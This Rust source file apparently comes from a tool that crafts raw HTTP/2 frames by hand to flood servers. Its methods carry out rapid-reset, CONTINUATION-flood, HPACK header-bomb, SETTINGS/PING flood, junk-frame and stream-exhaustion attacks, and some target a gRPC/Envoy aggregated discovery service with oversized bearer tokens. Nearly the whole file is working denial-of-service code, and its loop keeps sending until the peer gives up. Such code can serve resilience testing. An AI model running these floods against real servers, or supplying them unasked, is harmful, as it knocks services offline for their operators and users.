//! HTTP/2 by hand: a library would refuse to do this.

use std::io;

use crate::link::Link;

pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A connection after the preface.
pub(crate) struct Client {
    link: Link,
    next: u32,
}

impl Client {
    pub(crate) fn open(mut link: Link) -> io::Result<Self> {
        link.send(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat())?;
        Ok(Self { link, next: 1 })
    }

    pub(crate) fn rapid_reset(mut self) -> io::Result<()> {
        let block = request("a.b.c");
        self.flood(move |client| {
            let stream = client.stream();
            let reset = frame(RST_STREAM, 0, stream, &8u32.to_be_bytes());
            [frame(HEADERS, END_HEADERS, stream, &block), reset].concat()
        })
    }

    pub(crate) fn continuation(mut self) -> io::Result<()> {
        let stream = self.stream();
        self.link.send(&frame(HEADERS, 0, stream, &request("a.b.c")))?;
        let more = literal("x-filler", &"y".repeat(8000));
        self.flood(move |_| frame(CONTINUATION, 0, stream, &more))
    }

    /// One entry of 4,000 bytes in the table, and as many references to it as a frame holds.
    pub(crate) fn header_bomb(mut self) -> io::Result<()> {
        let mut block = request("a.b.c");
        block.extend(indexed_literal("x-bomb", &"z".repeat(3900)));
        block.extend(std::iter::repeat_n(0x80 | 62, 11_000));
        self.flood(move |client| frame(HEADERS, END_HEADERS, client.stream(), &block))
    }

    pub(crate) fn settings(mut self) -> io::Result<()> {
        let one = [0, 4, 0, 0, 0xff, 0xff];
        self.flood(move |_| frame(SETTINGS, 0, 0, &one).repeat(200))
    }

    pub(crate) fn pings(mut self) -> io::Result<()> {
        self.flood(|_| frame(PING, 0, 0, &[0; 8]).repeat(200))
    }

    pub(crate) fn noise(mut self) -> io::Result<()> {
        let stream = self.stream();
        self.link.send(&frame(HEADERS, END_HEADERS, stream, &request("a.b.c")))?;
        self.flood(move |_| {
            let each = [
                frame(PRIORITY, 0, 101, &[0, 0, 0, 0, 1]),
                frame(DATA, 0, stream, &[]),
                frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
                frame(0xee, 0xff, 0, &[7; 100]),
            ];
            each.concat().repeat(50)
        })
    }

    pub(crate) fn tokens(mut self) -> io::Result<()> {
        // {"alg":"ES256","typ":"JWT"} . {"exp":99999999999, ...}, and 64 bytes as a signature
        let claims = "eyJleHAiOjk5OTk5OTk5OTk5LCJhdWQiOlsiaXN0aW8tY2EiXX0";
        let short = format!("Bearer eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.{claims}.{}", "A".repeat(86));
        let long = format!("{short}{}", "A".repeat(15_000));
        let blocks = [short, long].map(|token| {
            let mut block = request("envoy.service.discovery.v3.AggregatedDiscoveryService");
            block.extend(literal("authorization", &token));
            block
        });
        let mut turn = 0;
        self.flood(move |client| {
            turn += 1;
            let stream = client.stream();
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &blocks[turn % 2])
        })
    }

    pub(crate) fn streams(mut self) -> io::Result<()> {
        let block = request("envoy.service.discovery.v3.AggregatedDiscoveryService");
        for _ in 0..250 {
            let stream = self.stream();
            self.link.send(&frame(HEADERS, END_HEADERS, stream, &block))?;
            // A message of 16 MB is announced, and begun.
            self.link.send(&frame(DATA, 0, stream, &[&[0, 1, 0, 0, 0][..], &[0; 8000]].concat()))?;
        }
        self.link.outlast()
    }

    /// Until the other side ends it. Now and then something is read: who never reads is stopped by TCP.
    fn flood(&mut self, mut next: impl FnMut(&mut Self) -> Vec<u8>) -> io::Result<()> {
        while !self.link.is_over() {
            for _ in 0..100 {
                let bytes = next(self);
                self.link.send(&bytes)?;
            }
            match self.link.receive(&mut [0; 65_536]) {
                Err(error)
                    if !matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) =>
                {
                    return Err(error);
                }
                _ => {}
            }
        }
        Ok(())
    }

    fn stream(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }
}

/// The head of a gRPC call.
fn request(service: &str) -> Vec<u8> {
    // POST, https
    let mut block = vec![0x83, 0x87];
    block.extend(literal(":path", &format!("/{service}/DeltaAggregatedResources")));
    block.extend(literal(":authority", "localhost"));
    block.extend(literal("content-type", "application/grpc"));
    block.extend(literal("te", "trailers"));
    block
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0][..], &text(name), &text(value)].concat()
}

fn indexed_literal(name: &str, value: &str) -> Vec<u8> {
    [&[0x40][..], &text(name), &text(value)].concat()
}

/// A string of HPACK without Huffman's code; its length has a prefix of 7 bits (RFC 7541, 5.1).
fn text(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    match u8::try_from(text.len()) {
        Ok(length) if length < 127 => bytes.push(length),
        _ => {
            bytes.push(127);
            let mut left = text.len() - 127;
            while left >= 128 {
                bytes.push(0x80 | (left % 128) as u8);
                left /= 128;
            }
            bytes.push(left as u8);
        }
    }
    bytes.extend(text.as_bytes());
    bytes
}

/// RFC 9113, 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    let mut bytes = length.to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
